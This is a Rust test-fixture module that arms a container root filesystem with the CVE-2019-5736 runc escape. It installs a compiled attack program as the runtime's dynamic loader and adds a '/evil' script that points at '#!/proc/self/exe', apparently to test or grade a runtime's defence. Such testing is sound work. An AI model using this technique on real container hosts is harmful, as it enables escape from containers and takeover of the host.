//! The attacker's side of CVE-2019-5736, as a fixture: `tests/fixtures/exe-attack.c`.
//!
//! A rootfs is armed by installing the attack program as the dynamic loader that the
//! runtime's binary asks for (its `PT_INTERP`, `/lib64/ld-linux-x86-64.so.2` here) and
//! adding `/evil`, a script whose interpreter is `#!/proc/self/exe`. Running `/evil` in
//! a container then starts the runtime's binary inside it with the attacker's loader.
//! The program is C without a C library, built with the machine's `cc` on first use.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use crate::skip::Skip;
use crate::workspace;

/// The script a container runs to start the attack.
pub const EVIL: &str = "/evil";

/// The attack program, built on first use. Skips when there is no C compiler.
pub fn program() -> Result<&'static Path, Skip> {
    static PROGRAM: OnceLock<Result<PathBuf, String>> = OnceLock::new();
    match PROGRAM.get_or_init(build) {
        Ok(path) => Ok(path),
        Err(err) if err.starts_with("no cc") => Err(Skip(err.clone())),
        Err(err) => panic!("cannot build exe-attack: {err}"),
    }
}

fn build() -> Result<PathBuf, String> {
    let source = workspace::root().join("tests/fixtures/exe-attack.c");
    let dir = workspace::graders_dir();
    std::fs::create_dir_all(&dir).map_err(|err| format!("{}: {err}", dir.display()))?;
    // Per process: parallel test processes must not write one file at once.
    let output = dir.join(format!("exe-attack-{}", std::process::id()));
    let status = Command::new("cc")
        .args([
            "-static",
            "-nostdlib",
            "-ffreestanding",
            "-fno-pie",
            "-no-pie",
            "-fno-stack-protector",
            "-O2",
            "-o",
        ])
        .arg(&output)
        .arg(&source)
        .status()
        .map_err(|err| {
            format!("no cc to build the exe-attack fixture ({err}): apt-get install gcc")
        })?;
    if !status.success() {
        return Err(format!("cc {} failed ({status})", source.display()));
    }
    Ok(output)
}

/// The dynamic loader that `binary` asks for (its `PT_INTERP`), if any.
pub fn interpreter(binary: &Path) -> Option<String> {
    let elf = std::fs::read(binary).ok()?;
    let u16_at = |at: usize| Some(u16::from_le_bytes(elf.get(at..at + 2)?.try_into().ok()?));
    let u32_at = |at: usize| Some(u32::from_le_bytes(elf.get(at..at + 4)?.try_into().ok()?));
    let u64_at = |at: usize| Some(u64::from_le_bytes(elf.get(at..at + 8)?.try_into().ok()?));
    let (phoff, phentsize, phnum) = (
        u64_at(0x20)? as usize,
        u16_at(0x36)? as usize,
        u16_at(0x38)?,
    );
    (0..usize::from(phnum)).find_map(|i| {
        let header = phoff + i * phentsize;
        if u32_at(header)? != 3 {
            return None; // not PT_INTERP
        }
        let (offset, size) = (u64_at(header + 8)? as usize, u64_at(header + 32)? as usize);
        let path = elf.get(offset..offset + size)?;
        Some(String::from_utf8_lossy(path.strip_suffix(&[0]).unwrap_or(path)).into_owned())
    })
}

/// Arms the rootfs at `rootfs` (a private copy) against the runtime `binary`: the
/// attack program as its loader, and [`EVIL`]. Both readable and executable by all.
pub fn arm(rootfs: &Path, binary: &Path) -> Result<(), Skip> {
    let program = program()?;
    let loader = interpreter(binary).ok_or_else(|| {
        Skip(format!(
            "{} has no PT_INTERP (a static runtime loads no loader from the rootfs)",
            binary.display()
        ))
    })?;
    let target = rootfs.join(loader.trim_start_matches('/'));
    let parent = target.parent().expect("a loader path has a directory");
    std::fs::create_dir_all(parent)
        .unwrap_or_else(|err| panic!("mkdir {}: {err}", parent.display()));
    crate::runtime::install_executable(program, parent);
    let installed = parent.join(program.file_name().expect("a file name"));
    std::fs::rename(&installed, &target)
        .unwrap_or_else(|err| panic!("rename to {}: {err}", target.display()));
    crate::users::write_script(
        &rootfs.join(EVIL.trim_start_matches('/')),
        "#!/proc/self/exe\n",
    );
    Ok(())
}
